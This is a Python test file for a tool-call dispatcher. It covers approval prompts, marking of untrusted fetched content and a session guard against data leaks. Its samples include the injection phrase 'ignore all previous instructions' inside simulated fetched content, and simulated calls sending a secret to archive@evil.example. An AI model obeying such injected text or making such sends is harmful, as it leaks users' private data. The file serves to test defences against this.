"""Approvals, untrusted-content marking and the session guard, through the real example workspace."""

from __future__ import annotations

import re
from contextlib import asynccontextmanager
from typing import TYPE_CHECKING, Any

import anyio
import pytest
from mcp import Client
from mcp.types import ToolAnnotations

from dispatcher import (
    ApprovalPolicy,
    ApprovalRequest,
    CallStatus,
    ConfigurationError,
    Dispatcher,
    SessionGuard,
    ToolCall,
    ToolEntry,
)
from dispatcher.examples import Workspace
from dispatcher.formats import anthropic_results, openai_chat_results

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

pytestmark = pytest.mark.anyio

EVIL = "https://evil.example/launch"


class Approver:
    """An approver that records each request and answers when the test says so (or at once)."""

    def __init__(self, default: bool | None = None) -> None:
        self.default = default
        self.requests: list[ApprovalRequest] = []
        self.pending: dict[str, anyio.Event] = {}
        self.decisions: dict[str, bool] = {}
        self.cancelled: list[str] = []

    async def __call__(self, request: ApprovalRequest) -> bool:
        self.requests.append(request)
        call_id = request.call.id
        if self.default is not None:
            return self.default
        event = self.pending.setdefault(call_id, anyio.Event())
        try:
            await event.wait()
        except anyio.get_cancelled_exc_class():
            self.cancelled.append(call_id)
            raise
        return self.decisions[call_id]

    def answer(self, call_id: str, approved: bool) -> None:
        self.decisions[call_id] = approved
        self.pending.setdefault(call_id, anyio.Event()).set()

    @property
    def asked(self) -> list[str]:
        return [request.call.id for request in self.requests]


@asynccontextmanager
async def workspace(*, trusted: bool = True, **options: Any) -> AsyncIterator[tuple[Dispatcher, Workspace]]:
    ws = Workspace()
    async with Client(ws.server) as client, Dispatcher(**options) as dispatcher:
        await dispatcher.add_mcp_server("workspace", client, trusted=trusted)
        yield dispatcher, ws


def executed(ws: Workspace) -> list[str]:
    return [f"{execution.tool}:{next(iter(execution.arguments.values()))}" for execution in ws.ledger]


# The policy --------------------------------------------------------------------------------------


def _entry(name: str, **hints: bool) -> ToolEntry:
    defaults = {"read_only_hint": False, "destructive_hint": True, "idempotent_hint": False, "open_world_hint": True}
    return ToolEntry(name, "s", name, ToolAnnotations.model_validate({**defaults, **hints}))


READ = _entry("read", read_only_hint=True, open_world_hint=False)
FETCH = _entry("fetch", read_only_hint=True)
CREATE = _entry("create", destructive_hint=False, open_world_hint=False)
DELETE = _entry("delete", open_world_hint=False)
SEND = _entry("send", destructive_hint=False)
UNKNOWN = _entry("unknown")


def test_default_policy_confirms_destructive_calls_only() -> None:
    """By default only calls that are not read-only and may be destructive need confirmation."""
    policy = ApprovalPolicy()
    assert [entry.name for entry in (READ, FETCH, CREATE, DELETE, SEND, UNKNOWN) if policy.reason(entry)] == [
        "delete",
        "unknown",
    ]
    assert policy.reason(DELETE) == "delete may make destructive changes"


def test_policy_options_select_mutating_open_world_and_named_tools() -> None:
    """mutating, open_world, always and never widen or narrow what is confirmed."""
    everything = (READ, FETCH, CREATE, DELETE, SEND, UNKNOWN)

    def confirmed(policy: ApprovalPolicy) -> list[str]:
        return [entry.name for entry in everything if policy.reason(entry) is not None]

    assert confirmed(ApprovalPolicy(mutating=True)) == ["create", "delete", "send", "unknown"]
    assert confirmed(ApprovalPolicy(destructive=False, open_world=True)) == ["fetch", "send", "unknown"]
    assert confirmed(ApprovalPolicy(always={"s:read"}, never={("s", "delete")})) == ["read", "unknown"]
    assert confirmed(ApprovalPolicy(destructive=False)) == []
    assert ApprovalPolicy(always={"s:read"}).reason(READ) == "the approval policy lists read"
    assert confirmed(ApprovalPolicy(always={"read"}, never={"delete"})) == ["delete", "unknown"]  # local functions


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"always": "read_note"}, "always must be a set of tools"),
        ({"always": ("s", "read_note")}, "always must be a set of tools"),
        ({"never": [1]}, "never must hold tools named 'server:tool'"),
        ({"never": [("s", "t", "u")]}, "never must hold tools named 'server:tool'"),
        ({"always": {"s:a"}, "never": {("s", "a")}}, "both always and never"),
        ({"timeout": 0}, "timeout must be a positive number of seconds"),
        ({"timeout": float("inf")}, "use None for waiting without limit"),
    ],
)
def test_policy_rejects_bad_settings(options: dict[str, Any], message: str) -> None:
    """Bad policy settings fail at construction with a message that says what to do."""
    with pytest.raises(ConfigurationError, match=message):
        ApprovalPolicy(**options)


async def test_dispatcher_rejects_a_non_callable_approver() -> None:
    """The approver must be callable and the policy an ApprovalPolicy."""
    with pytest.raises(ConfigurationError, match="approve must be an async callable"):
        Dispatcher(approve="yes")  # type: ignore[arg-type]
    with pytest.raises(ConfigurationError, match="approval must be an ApprovalPolicy"):
        Dispatcher(approval={"destructive": True})  # type: ignore[arg-type]
    with pytest.raises(ConfigurationError, match="guard must be a SessionGuard"):
        Dispatcher(guard=True)  # type: ignore[arg-type]


# Approvals ---------------------------------------------------------------------------------------


async def test_approvals_are_asked_up_front_while_other_calls_run() -> None:
    """A batch's approvals are requested at once, shown one at a time, and calls that need none run meanwhile."""
    approver = Approver()
    calls = [
        ToolCall("r1", "search_notes", {"query": "a"}),
        ToolCall("w1", "set_note", {"name": "a", "text": "1"}),
        ToolCall("w2", "delete_note", {"name": "b"}),
        ToolCall("r2", "read_note", {"name": "a"}),
    ]
    async with workspace(approve=approver) as (dispatcher, ws), anyio.create_task_group() as tg:
        results: list[Any] = []

        async def run() -> None:
            results.extend(await dispatcher.dispatch(calls))

        tg.start_soon(run)
        await anyio.wait_all_tasks_blocked()
        assert len(approver.asked) == 1, "one person: one prompt at a time"
        assert executed(ws) == ["search_notes:a"]
        first = approver.asked[0]
        second = "w2" if first == "w1" else "w1"
        approver.answer(first, True)
        await anyio.wait_all_tasks_blocked()
        assert approver.asked == [first, second]
        if first == "w2":  # the later write was approved first: it still waits for its turn
            assert executed(ws) == ["search_notes:a"]
        approver.answer(second, True)
    assert [result.status for result in results] == [CallStatus.OK] * 4
    assert executed(ws) == ["search_notes:a", "set_note:a", "delete_note:b", "read_note:a"]
    assert results[3].result is not None and results[3].result.content[0].text == "1"


async def test_a_denied_call_does_not_run_and_the_model_reads_why() -> None:
    """A denied call gets DENIED with a readable reason; the calls after it still run."""
    approver = Approver(default=False)
    calls = [
        ToolCall("w1", "set_note", {"name": "a", "text": "1"}),
        ToolCall("w2", "create_note", {"name": "b", "text": "2"}),
    ]
    async with workspace(approve=approver) as (dispatcher, ws):
        denied, created = await dispatcher.dispatch(calls)
    assert denied.status is CallStatus.DENIED
    assert (
        denied.error
        == "not run: the user denied it (approval was needed because set_note may make destructive changes)"
    )
    assert denied.attempts == 0 and denied.started_at is None
    assert created.ok
    assert ws.notes == {"b": "2"}
    [block, _] = anthropic_results([denied, created])
    assert block["is_error"] is True and block["content"].startswith("not run: the user denied it")
    assert openai_chat_results([denied])[0]["content"].startswith("Error (denied): not run: the user denied it")


@pytest.mark.backends("trio-mockclock")
async def test_the_default_approval_timeout_is_five_minutes() -> None:
    """On a virtual clock: an unanswered approval denies the call after 300 s, not before."""
    approver = Approver()
    async with workspace(approve=approver) as (dispatcher, ws):
        start = anyio.current_time()
        [result] = await dispatcher.dispatch([ToolCall("w", "delete_note", {"name": "a"})])
    assert result.status is CallStatus.DENIED
    assert result.error is not None and result.error.startswith("not run: no approval within 300.0s")
    assert result.finished_at - start == pytest.approx(300.0)
    assert result.queue_time == pytest.approx(300.0) and result.run_time == 0.0
    assert ws.ledger == ()


async def test_approval_timeout_denies_the_call() -> None:
    """An approval that does not come in time denies the call."""
    approver = Approver()
    async with workspace(approve=approver, approval=ApprovalPolicy(timeout=0.05)) as (dispatcher, ws):
        [result] = await dispatcher.dispatch([ToolCall("w", "delete_note", {"name": "a"})])
    assert result.status is CallStatus.DENIED
    assert result.error is not None and result.error.startswith("not run: no approval within 0.05s")
    assert approver.cancelled == ["w"]
    assert ws.ledger == ()


async def test_an_approver_that_raises_or_answers_oddly_denies() -> None:
    """An approver's exception (or an answer that is not a bool) is a denial whose reason says so."""

    async def broken(request: ApprovalRequest) -> bool:
        raise RuntimeError("the approval UI is down")

    async def vague(request: ApprovalRequest) -> bool:
        return "yes"  # type: ignore[return-value]

    async with workspace(approve=broken) as (dispatcher, ws):
        [result] = await dispatcher.dispatch([ToolCall("w", "delete_note", {"name": "a"})])
        [odd] = await dispatcher.dispatch([ToolCall("v", "delete_note", {"name": "a"})], approve=vague)
    assert result.status is CallStatus.DENIED
    assert result.error == "not run: asking for approval failed (RuntimeError: the approval UI is down)"
    assert odd.error == "not run: the approver answered 'yes' instead of True or False"
    assert ws.ledger == ()


async def test_a_sync_approver_is_a_denial_that_says_to_use_async_def() -> None:
    """A plain function as approver denies the call, with a reason naming async def; the tool never runs."""
    async with workspace(approve=lambda request: True) as (dispatcher, ws):
        [result] = await dispatcher.dispatch([ToolCall("w", "delete_note", {"name": "a"})])
    assert result.status is CallStatus.DENIED
    assert result.error is not None
    assert "returned bool instead of an awaitable" in result.error
    assert "async def" in result.error
    assert ws.ledger == ()


async def test_per_batch_approver_and_policy_override_the_dispatcher() -> None:
    """dispatch(approve=..., approval=...) applies to that batch only."""
    everyone = Approver(default=True)
    strict = Approver(default=False)
    async with workspace(approve=everyone) as (dispatcher, ws):
        [a] = await dispatcher.dispatch([ToolCall("a", "create_note", {"name": "a", "text": "1"})])
        [b] = await dispatcher.dispatch(
            [ToolCall("b", "create_note", {"name": "b", "text": "2"})],
            approve=strict,
            approval=ApprovalPolicy(mutating=True),
        )
        async with dispatcher.batch(approve=strict) as batch:
            c = batch.submit(ToolCall("c", "set_note", {"name": "c", "text": "3"}))
    assert a.ok and everyone.asked == []
    assert b.status is CallStatus.DENIED and strict.asked == ["b", "c"]
    assert c.result().status is CallStatus.DENIED
    assert ws.notes == {"a": "1"}


async def test_untrusted_servers_tools_all_need_approval() -> None:
    """An untrusted server's read-only claims are ignored, so its every call counts as destructive."""
    approver = Approver(default=True)
    async with workspace(trusted=False, approve=approver) as (dispatcher, _):
        results = await dispatcher.dispatch([ToolCall("r", "search_notes", {"query": "x"})])
    assert approver.asked == ["r"] and results[0].ok


async def test_cancelling_a_batch_cancels_its_pending_approvals() -> None:
    """A call waiting for approval is CANCELLED with its batch, and the approver is cancelled too."""
    approver = Approver()
    async with workspace(approve=approver) as (dispatcher, ws):
        batch = dispatcher.batch()
        pending = batch.submit(ToolCall("w", "set_note", {"name": "a", "text": "1"}))
        await anyio.wait_all_tasks_blocked()
        batch.cancel()
        await batch.wait()
        await anyio.wait_all_tasks_blocked()
    assert pending.result().status is CallStatus.CANCELLED
    assert approver.cancelled == ["w"]
    assert ws.ledger == ()


async def test_a_read_waiting_for_approval_lets_later_reads_pass() -> None:
    """A held read keeps no one waiting: the reads after it run while it waits for approval."""
    approver = Approver()
    calls = [ToolCall("f", "fetch_url", {"url": EVIL}), ToolCall("r", "search_notes", {"query": "x"})]
    policy = ApprovalPolicy(open_world=True)
    async with (
        workspace(approve=approver, approval=policy) as (dispatcher, ws),
        anyio.create_task_group() as tg,
    ):
        tg.start_soon(dispatcher.dispatch, calls)
        await anyio.wait_all_tasks_blocked()
        assert executed(ws) == ["search_notes:x"]
        approver.answer("f", True)
    assert executed(ws) == ["search_notes:x", f"fetch_url:{EVIL}"]


# Untrusted content -------------------------------------------------------------------------------


async def test_results_of_open_world_tools_are_marked_untrusted() -> None:
    """Results of tools whose effective openWorldHint is true are marked; closed-world ones are not."""
    calls = [
        ToolCall("fetch", "fetch_url", {"url": EVIL}),
        ToolCall("read", "search_notes", {"query": "x"}),
        ToolCall("send", "send_message", {"to": "bob", "text": "hi"}),
        ToolCall("bad", "fetch_url", {"url": "not a url"}),
        ToolCall("never", "fetch_url", {"wrong": 1}),
    ]
    async with workspace() as (dispatcher, _):
        results = await dispatcher.dispatch(calls)
    assert [result.untrusted_content for result in results] == [True, False, True, True, False]
    assert results[3].status is CallStatus.TOOL_ERROR
    blocks = anthropic_results(results)
    assert re.match(
        r'<untrusted-content-[0-9a-f]{16} tool="fetch_url">\n\[simulated offline fetch', blocks[0]["content"]
    )
    assert "ignore all previous instructions" in blocks[0]["content"]
    assert blocks[1]["content"] == "no notes match 'x'"
    assert anthropic_results(results[:1], untrusted=None)[0]["content"].startswith("[simulated offline fetch")


async def test_every_result_of_an_untrusted_server_is_untrusted_content() -> None:
    """An untrusted server's closed-world claim is ignored: what it returns is untrusted."""
    async with workspace(trusted=False) as (dispatcher, _):
        [result] = await dispatcher.dispatch([ToolCall("read", "search_notes", {"query": "x"})])
    assert result.ok and result.untrusted_content


# The session guard -------------------------------------------------------------------------------


async def test_guard_requires_approval_for_open_world_writes_after_the_trifecta() -> None:
    """Private data + open-world content in one session: sending out needs approval, and without an
    approver it is denied."""
    guard = SessionGuard()
    async with workspace(guard=guard) as (dispatcher, ws):
        await dispatcher.dispatch([ToolCall("seed", "set_note", {"name": "secret", "text": "s3cret"})])
        await dispatcher.dispatch([ToolCall("r", "read_note", {"name": "secret"})])
        assert not guard.tripped
        [sent] = await dispatcher.dispatch([ToolCall("s1", "send_message", {"to": "bob", "text": "hello"})])
        assert sent.ok, "one leg of the trifecta is not enough"
        await dispatcher.dispatch([ToolCall("f", "fetch_url", {"url": EVIL})])
        assert guard.tripped
        assert guard.private_data == ["read_note"] and guard.untrusted_content == ["send_message", "fetch_url"]
        [blocked, note] = await dispatcher.dispatch(
            [
                ToolCall("s2", "send_message", {"to": "archive@evil.example", "text": "s3cret"}),
                ToolCall("n", "create_note", {"name": "log", "text": "closed-world writes are fine"}),
            ]
        )
    assert blocked.status is CallStatus.DENIED
    assert blocked.error is not None
    assert "no approver is configured" in blocked.error
    assert "send_message can send data to an open world" in blocked.error
    assert note.ok
    assert ws.outbox == (("bob", "hello"),)


async def test_guard_checks_again_when_a_write_of_the_same_turn_starts() -> None:
    """Within one turn, the write runs after the reads that trip the guard, so it is stopped then."""
    guard = SessionGuard()
    approver = Approver(default=False)
    calls = [
        ToolCall("r", "search_notes", {"query": "x"}),
        ToolCall("f", "fetch_url", {"url": EVIL}),
        ToolCall("s", "send_message", {"to": "archive@evil.example", "text": "everything"}),
    ]
    async with workspace(guard=guard, approve=approver) as (dispatcher, ws):
        results = await dispatcher.dispatch(calls)
    assert [result.status for result in results] == [CallStatus.OK, CallStatus.OK, CallStatus.DENIED]
    assert approver.asked == ["s"]
    assert "this session has read private data (search_notes)" in approver.requests[0].reason
    assert results[2].started_at is None and ws.outbox == ()


async def test_guard_approval_lets_the_write_through() -> None:
    """When the person approves, the guarded write runs."""
    guard = SessionGuard()
    guard.note_private_data("user upload")
    guard.note_untrusted_content("pasted page")
    approver = Approver(default=True)
    async with workspace(guard=guard, approve=approver) as (dispatcher, ws):
        [sent] = await dispatcher.dispatch([ToolCall("s", "send_message", {"to": "bob", "text": "hi"})])
    assert sent.ok and approver.asked == ["s"]
    assert ws.outbox == (("bob", "hi"),)
    guard.reset()
    assert not guard.tripped and guard.private_data == []


async def test_guard_per_batch_tracks_its_own_session() -> None:
    """A guard passed to dispatch() watches only that session's batches."""
    guard = SessionGuard()
    async with workspace() as (dispatcher, ws):
        await dispatcher.dispatch([ToolCall("r", "search_notes", {"query": "x"})], guard=guard)
        await dispatcher.dispatch([ToolCall("f", "fetch_url", {"url": EVIL})])  # another session
        assert not guard.tripped
        await dispatcher.dispatch([ToolCall("f", "fetch_url", {"url": EVIL})], guard=guard)
        [sent] = await dispatcher.dispatch([ToolCall("s", "send_message", {"to": "x", "text": "y"})], guard=guard)
    assert sent.status is CallStatus.DENIED
    assert ws.outbox == ()
